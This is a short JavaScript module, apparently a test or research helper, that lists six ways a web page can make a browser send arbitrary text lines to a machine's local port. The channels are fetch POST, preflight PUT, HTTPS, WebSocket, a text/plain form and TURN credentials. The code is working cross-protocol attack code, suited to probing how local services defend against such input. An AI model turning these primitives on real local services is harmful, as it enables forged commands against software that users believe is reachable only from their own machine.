// What a page can make its browser send to a port of the machine, with lines in it.
const post = (url, options) => void fetch(url, { method: 'POST', mode: 'no-cors', ...options }).catch(() => {})

globalThis.attacks = {
  post: (address, body) => post(`http://${address}/`, { body }),
  preflight: (address, body) => post(`http://${address}/`, { method: 'PUT', mode: 'cors', headers: { x: '1' }, body }),
  tls: (address, body) => post(`https://${address}/`, { body }),
  webSocket(address, lines) {
    const socket = new WebSocket(`ws://${address}/`)
    socket.onopen = () => socket.send(lines)
  },
  form(address, lines) {
    document.body.innerHTML = `<iframe name="f"></iframe>
      <form method="post" enctype="text/plain" action="http://${address}/" target="f"><textarea name="x"></textarea></form>`
    document.querySelector('textarea').value = lines
    document.querySelector('form').submit()
  },
  async turn(address, lines) {
    const server = { urls: `turn:${address}?transport=tcp`, username: lines, credential: lines }
    const peer = new RTCPeerConnection({ iceServers: [server], iceTransportPolicy: 'relay' })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
  },
}
